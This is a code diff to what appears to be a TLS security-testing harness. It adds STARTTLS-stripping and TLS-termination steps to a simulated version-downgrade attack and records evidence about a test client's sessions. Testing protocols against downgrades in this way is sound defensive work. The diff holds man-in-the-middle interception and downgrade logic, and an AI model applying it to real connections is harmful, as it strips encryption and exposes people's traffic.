@@ -1,7 +1,9 @@
 /**
  * Downgrade attacks: force a weaker setting than both ends support.
- * - `downgrade-fallback`: reset every TLS handshake that offers more than the profile's minimum
- *   version, so a client that "falls back" retries lower (the dance POODLE used, RFC 7507).
+ * - `downgrade-fallback`: from the position first (STARTTLS stripped: no TLS at all; TLS terminated
+ *   with a certificate the client accepts: the attacker's hop capped at the profile's minimum),
+ *   then reset every TLS handshake that offers more than the profile's minimum version, so a
+ *   client that "falls back" retries lower (the dance POODLE used, RFC 7507).
  * - `downgrade-starttls`: strip the STARTTLS offer from the plaintext greeting (and keep whatever
  *   else the position gives: a secure channel taken over after the strip).
  * - `downgrade-cipher`: from the strongest position reached (attacks/kit/position.ts), rewrite the
@@ -16,11 +18,11 @@ import { versionName } from '../../core/tls/registry.ts';
 import { conversationEvidence, describeRefusal, findCanary, primaryRefusal, proxyEvidence, serverRefusals, sightingEvidence } from '../kit/evidence.ts';
 import { alterFrame } from '../kit/rewrite.ts';
 import { probeFallbackScsv } from '../kit/fallback-probe.ts';
-import { chainPrefix, positionAddon, positionEvidence, shortStep, type Position } from '../kit/position.ts';
+import { attackerIdentity, chainPrefix, positionAddon, positionEvidence, shortStep, type Position } from '../kit/position.ts';
 import { UNAUTHENTICATED_CIPHERS } from '../kit/channel-takeover.ts';
 import type { ProxyAddon } from '../proxy.ts';
 import { CanaryMark } from '../kit/canary-mark.ts';
-import type { Attack, Evidence } from '../types.ts';
+import type { Attack, AttackContext, Evidence, Verdict } from '../types.ts';
 
 /** Wire value of a TLS version (RFC 8446 §4.2.1): TLSv1 = 0x0301 … TLSv1.3 = 0x0304. */
 export function wireVersion(v: TlsVersion): number {
@@ -28,16 +30,98 @@ export function wireVersion(v: TlsVersion): number {
 }
 
 
+/**
+ * Rung 2 used for a version downgrade: with the STARTTLS offer stripped, the victim's session
+ * runs with no TLS at all. Measured: alice connected and her client negotiated no TLS although
+ * the profile's transport is STARTTLS.
+ * @returns succeeded when that was observed, else null (the caller carries on with the next rung)
+ */
+async function fallbackByStrip(ctx: AttackContext, pos: Position): Promise<Verdict | null> {
+  const runPos: Position = { ...pos, tls: null, channel: null, weakCipher: null };
+  const positioned = positionAddon(runPos, ctx.pki, { name: 'downgrade-fallback' });
+  const obs = await ctx.runConversation({ addon: positioned.addon });
+  const alice = obs.clients.alice;
+  const starttls = ctx.profile.transport === 'starttls' || ctx.profile.transport === 'starttls-required';
+  if (!starttls || !alice.connected || alice.negotiated !== null) return null;
+  const stripped = obs.proxy!.connections.some((c) => c.notes.some((n) => n.startsWith('removed "starttls": true')));
+  if (!stripped) return null;
+  const evidence: Evidence[] = [
+    { kind: 'downgraded-to', detail: `alice's client connected with no TLS at all (negotiated: none) although the profile's transport is ${ctx.profile.transport} with ${ctx.profile.tls.minVersion}–${ctx.profile.tls.maxVersion}` },
+    ...positionEvidence(runPos),
+    ...proxyEvidence(obs),
+    ...conversationEvidence(obs),
+  ];
+  return {
+    outcome: 'succeeded',
+    reason: `${chainPrefix(runPos)}alice's session ran with no TLS at all, below any version the profile allows (${ctx.profile.tls.minVersion}–${ctx.profile.tls.maxVersion}): the attacker needed no fallback`,
+    summary: 'no TLS: STARTTLS stripped',
+    impact: ['confidentiality', 'integrity'],
+    evidence,
+    negotiated: null,
+    data: { via: 'starttls-strip' },
+  };
+}
+
+/**
+ * Rung 3 used for a version downgrade: the attacker terminates TLS with the certificate the
+ * victim's client accepted in the probe, its own hop capped at the profile's minimum version.
+ * Measured: the version alice's client actually negotiated, below the profile's maximum.
+ * @returns succeeded when that was observed, else null (min == max, or the client did not take it)
+ */
+async function fallbackByTermination(ctx: AttackContext, pos: Position): Promise<Verdict | null> {
+  const { minVersion, maxVersion } = ctx.profile.tls;
+  // Nothing lower to offer: the existing fallback technique decides (as before).
+  if (versionRank(minVersion) >= versionRank(maxVersion) || !pos.tls) return null;
+  const cert = pos.tls.cert;
+  const identity = attackerIdentity(ctx.pki, cert);
+  const addon: ProxyAddon = {
+    name: 'downgrade-fallback',
+    onClientHello: () => ({ action: 'terminate', identity, maxVersion: minVersion }),
+  };
+  const obs = await ctx.runConversation({ addon });
+  const n = obs.clients.alice.negotiated;
+  if (!n?.protocol || !(TLS_VERSIONS as readonly string[]).includes(n.protocol) || versionRank(n.protocol as TlsVersion) >= versionRank(maxVersion)) return null;
+  const hop = obs.proxy!.connections.find((c) => c.mode === 'terminate' && c.clientHop)?.clientHop ?? null;
+  const evidence: Evidence[] = [
+    { kind: 'downgraded-to', detail: `alice's client negotiated ${n.protocol} (${n.cipher}) with the attacker, whose hop was capped at ${minVersion}; the profile allows up to ${maxVersion}${hop ? `; the attacker's side saw ${hop.protocol}` : ''}` },
+    { kind: 'accepted-certificate', detail: `alice's client accepted the attacker's ${cert} certificate (${pos.steps.find((s) => s.startsWith('terminated TLS')) ?? 'probed'})` },
+    ...positionEvidence(pos),
+    ...proxyEvidence(obs),
+    ...conversationEvidence(obs),
+  ];
+  return {
+    outcome: 'succeeded',
+    reason: `${chainPrefix({ ...pos, steps: pos.steps.filter((s) => !s.startsWith('took over') && !s.startsWith('rewrote')) })}capped its own hop at ${minVersion}: alice's session ran on ${n.protocol} (${n.cipher}), below the profile's maximum ${maxVersion} — the attacker chose the version, no fallback needed`,
+    summary: `forced ${n.protocol}: TLS terminated`,
+    impact: ['integrity'],
+    evidence,
+    negotiated: n,
+    data: { via: 'tls-termination', cert, victimVersion: n.protocol },
+  };
+}
+
 export const downgradeFallback: Attack = {
   id: 'downgrade-fallback',
   title: 'Version fallback downgrade',
-  description: 'The attacker resets every TLS handshake whose ClientHello offers more than the profile\'s minimum version. Succeeds only if a session then completes below the profile\'s maximum version. Also probes whether the server refuses an inappropriate fallback (TLS_FALLBACK_SCSV, RFC 7507).',
+  description: 'The attacker first climbs its position: where STARTTLS can be stripped the session runs with no TLS at all; where it can terminate TLS with a certificate the client accepts it caps its own hop at the profile\'s minimum version. Otherwise it resets every TLS handshake whose ClientHello offers more than the profile\'s minimum version. Succeeds only if a session is observed running below the profile\'s maximum version (or without TLS). Also probes whether the server refuses an inappropriate fallback (TLS_FALLBACK_SCSV, RFC 7507).',
   applicability(p) {
     if (!usesTls(p)) return 'the profile uses no TLS: there is no version to downgrade';
     if (p.tls.minVersion === p.tls.maxVersion) return `the profile allows only ${p.tls.minVersion}: there is no lower version to force`;
     return null;
   },
   async run(ctx) {
+    // An attacker who already holds a stronger rung picks the version (or no TLS at all) himself:
+    // climb the ladder first, so a reset the client survives is never reported as "blocked"
+    // when the same attacker could simply have stripped or terminated TLS (issue: false blocked).
+    const pos = await ctx.position();
+    if (pos.strippedStarttls) {
+      const r = await fallbackByStrip(ctx, pos);
+      if (r) return r;
+    }
+    if (pos.tls) {
+      const r = await fallbackByTermination(ctx, pos);
+      if (r) return r;
+    }
     const floor = wireVersion(ctx.profile.tls.minVersion);
     let killed = 0;
     const addon: ProxyAddon = {
